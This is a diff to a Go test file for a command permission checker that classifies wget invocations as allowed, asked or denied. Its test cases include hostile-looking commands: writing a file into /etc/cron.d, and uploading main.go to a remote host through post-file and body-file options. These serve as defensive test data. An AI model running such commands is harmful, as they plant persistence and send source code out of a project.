@@ -14,7 +14,11 @@ func TestBuiltinWgetCommands(t *testing.T) {
 		{`wget -e output_document=/etc/cron.d/x https://e`, Deny, "writes-outside-repo"},
 		{`wget --config=cfg https://e`, Ask, "destructive-unknown-command"},
 		{`WGETRC=cfg wget https://e`, Ask, "destructive-unknown-command"},
+		{`wget --exec=post_file=main.go https://e`, Deny, post},
+		{`wget --body-f main.go https://e`, Deny, post},
+		{`wget --conf=cfg https://e`, Ask, "destructive-unknown-command"},
 		{`wget -e robots=off https://e`, Allow, ""},
+		{`wget -r -np -nH --cut-dirs=2 --no-check-certificate https://e/x/`, Allow, ""},
 		{`wget --config=/dev/null -q https://e -O out.html`, Allow, ""},
 	})
 }
